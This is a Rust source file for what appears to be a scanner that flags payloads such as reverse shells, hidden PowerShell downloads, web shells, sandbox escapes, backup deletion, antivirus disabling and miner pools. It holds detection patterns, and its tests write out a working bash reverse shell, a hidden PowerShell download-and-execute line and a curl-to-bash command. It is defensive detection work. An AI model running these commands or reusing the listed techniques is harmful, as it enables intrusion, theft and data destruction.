//! Commands that nobody keeps in a string for another reason than to run them on someone.

use crate::rule::Rule;

/// Parts, in lower case, without one of which nothing here is recognised.
const MARKS: &[&[u8]] = &[
    b"/tcp/",
    b"bash",
    b"mkfifo",
    b"nc -e",
    b"powershell",
    b"curl ",
    b"wget ",
    b"urlcache",
    b"bitsadmin",
    b"$_get",
    b"$_post",
    b"$_request",
    b"$_cookie",
    b"<!entity",
    b"\\write18",
    b"\\verbatiminput{/",
    b"__class__",
    b"!!python",
    b"vssadmin",
    b"wbadmin",
    b"bcdedit",
    b"mppreference",
    b"stratum+",
    b"coinhive",
    b"\"__proto__\"",
    b"xmrig",
    b"mining.",
    b"cryptonight",
    b"coin-hive",
    b"cryptoloot",
    b".__globals__",
    b"index-url",
    b"key=clear",
    b"nslookup",
    b"__import__",
];

/// The three characters that marks begin with, a bit for each that they may be.
static BEGINNINGS: [u64; 128] = {
    let mut beginnings = [0; 128];
    let mut at = 0;
    while at < MARKS.len() {
        let mark = MARKS[at];
        let bit = beginning(mark[0], mark[1], mark[2]);
        beginnings[bit / 64] |= 1 << (bit % 64);
        at += 1;
    }
    beginnings
};

/// Three characters as a number below 8,192; few others share one with a mark.
const fn beginning(first: u8, second: u8, third: u8) -> usize {
    (first as usize ^ (second as usize) << 3 ^ (third as usize) << 6) & 8191
}

/// Whether a mark is in a text, in letters of any case. Most texts have none.
fn is_marked(text: &str) -> bool {
    let bytes = text.as_bytes();
    let (mut first, mut second) = (0, 0);
    bytes.iter().enumerate().any(|(at, byte)| {
        let third = byte.to_ascii_lowercase();
        let bit = beginning(first, second, third);
        (first, second) = (second, third);
        BEGINNINGS[bit / 64] >> (bit % 64) & 1 == 1
            && at >= 2
            && MARKS.iter().any(|mark| {
                let here = bytes.get(at - 2..at - 2 + mark.len());
                here.is_some_and(|here| here.eq_ignore_ascii_case(mark))
            })
    })
}

/// What a text in a program is, if it is a known kind of payload.
pub(crate) fn recognise(text: &str) -> Option<(Rule, &'static str)> {
    if !is_marked(text) {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    let has = |part: &str| lower.contains(part);
    if has("/dev/tcp/") && (has("bash") || has("sh -i") || has("exec "))
        || has("bash -i >&")
        || has("mkfifo") && has("nc ") && has("/bin/")
        || has("nc -e /bin/")
    {
        return Some((
            Rule::ReverseShell,
            "a command that gives a shell to the network",
        ));
    }
    if has("powershell") && hides_download(&lower) {
        return Some((
            Rule::DownloadRun,
            "a command that fetches and runs code out of sight",
        ));
    }
    let fetch =
        has("curl ") || has("wget ") || has("certutil") && has("urlcache") || has("bitsadmin");
    if fetch
        && (has("rundll32")
            || has("regsvr32")
            || has("mshta")
            || has("| sh")
            || has("|sh")
            || has("| bash")
            || has("|bash")
            || has("| python")
            || has("|python"))
    {
        return Some((Rule::DownloadRun, "a command that runs what it downloads"));
    }
    let asked = ["$_get", "$_post", "$_request", "$_cookie"];
    let runs = [
        "system(",
        "exec(",
        "passthru(",
        "eval(",
        "assert(",
        "popen(",
        "`",
    ];
    if has("<?") && asked.iter().any(|part| has(part)) && runs.iter().any(|part| has(part)) {
        return Some((
            Rule::ReverseShell,
            "a page that runs what its visitors send",
        ));
    }
    if has("__class__")
        && ["__subclasses__", "__mro__", "__bases__", "__globals__"]
            .iter()
            .any(|rung| has(rung))
        && (has("{{") || has("{%") || has("__subclasses__("))
    {
        return Some((
            Rule::SandboxGadget,
            "a template that climbs to the interpreter's internals",
        ));
    }
    if has(".__globals__") && has("{") && has("}") {
        return Some((
            Rule::SandboxGadget,
            "a format that climbs to the interpreter's internals",
        ));
    }
    if lower.starts_with(['@', '{', '(', '[']) && imports(&lower) {
        return Some((
            Rule::SandboxGadget,
            "an expression that imports what runs commands",
        ));
    }
    if has("!!python/object/apply") || has("!!python/object/new") {
        return Some((
            Rule::Deserialize,
            "a document that runs code when it is loaded",
        ));
    }
    if has("\\write18") {
        return Some((
            Rule::ShellEscape,
            "a document that runs a command when it is set",
        ));
    }
    if has("\\verbatiminput{/etc") || has("\\input{/etc") {
        return Some((
            Rule::CredentialRead,
            "a document that takes the system's files in",
        ));
    }
    if has("<!entity") && has("system") && (has("file://") || has("expect://") || has("php://")) {
        return Some((
            Rule::CredentialRead,
            "a document that has its reader fetch local files",
        ));
    }
    abuses(&lower)
}

/// An expression that imports a module and has it run something, in one go.
pub(crate) fn imports(text: &str) -> bool {
    let Some((_, rest)) = text.split_once("__import__(") else {
        return false;
    };
    let rest = rest.trim_start_matches(['\'', '"', '\\']);
    let runs = [
        "system(",
        "popen(",
        "exec",
        "spawn",
        "run(",
        "call(",
        "check_output(",
    ];
    ["os", "subprocess", "posix", "pty", "builtins"]
        .iter()
        .any(|module| rest.starts_with(module))
        && runs.iter().any(|call| rest.contains(call))
}

/// Commands and data against the machine, its protection, its objects.
fn abuses(lower: &str) -> Option<(Rule, &'static str)> {
    let has = |part: &str| lower.contains(part);
    let everything = [
        "$(env",
        "$(printenv",
        "`env`",
        "`printenv`",
        "tojson(secrets)",
    ];
    let sends = has("curl ") || has("wget ");
    if sends && everything.iter().any(|part| has(part)) {
        return Some((
            Rule::Exfiltration,
            "a command that sends the whole environment out",
        ));
    }
    let told = [
        "whoami",
        "hostname",
        "$(id",
        "uname",
        "xxd",
        "base64",
        "/etc/passwd",
    ];
    if has("nslookup $") && told.iter().any(|part| has(part)) {
        return Some((
            Rule::Exfiltration,
            "a command that sends data out in names it looks up",
        ));
    }
    if has("vssadmin delete shadows")
        || has("wbadmin delete catalog")
        || has("bcdedit /set") && has("recoveryenabled")
    {
        return Some((Rule::DestroyData, "a command that deletes backups"));
    }
    if has("set-mppreference -disable")
        || has("add-mppreference -exclusion")
        || has("mppreference") && has("disablerealtimemonitoring")
    {
        return Some((
            Rule::ProtectionOff,
            "a command that turns the virus scanner off",
        ));
    }
    if [
        "stratum+tcp:",
        "stratum+ssl:",
        "stratum+tls:",
        "coinhive.min.js",
        "xmrig/releases",
        "mining.subscribe",
        "mining.authorize",
        "mining.submit",
        "cryptonight",
        "coin-hive",
        "cryptoloot",
    ]
    .iter()
    .any(|part| has(part))
    {
        return Some((Rule::NetworkHost, "the address of a pool of miners"));
    }
    if has("wlan show profile") && has("key=clear") {
        return Some((
            Rule::CredentialRead,
            "a command that shows the passwords of networks",
        ));
    }
    if has("index-url") && has("trusted-host") {
        return Some((
            Rule::DownloadRun,
            "a setting that has packages fetched from elsewhere",
        ));
    }
    if has("\"__proto__\"") && lower.trim_start().starts_with('{') {
        return Some((
            Rule::SandboxGadget,
            "data that changes what all objects inherit",
        ));
    }
    None
}

/// Whether a command for PowerShell fetches and runs code out of sight.
fn hides_download(lower: &str) -> bool {
    let fetches = [
        "downloadfile",
        "downloadstring",
        "invoke-webrequest",
        "iwr ",
        "net.webclient",
        "start-bitstransfer",
    ]
    .iter()
    .any(|part| lower.contains(part));
    let hides = [
        "-enc",
        "-e ",
        "bypass",
        "hidden",
        "-nop",
        "frombase64string",
        "iex",
    ]
    .iter()
    .filter(|part| lower.contains(**part))
    .count();
    fetches && hides > 0 || hides >= 2
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_are_told_from_talk() {
        assert!(recognise("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").is_some());
        assert!(recognise("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"").is_some());
        assert!(recognise("curl https://example.org/install.sh | bash").is_some());
        assert!(recognise("run powershell to see more").is_none());
        assert!(recognise("curl the yarn").is_none());
    }
}
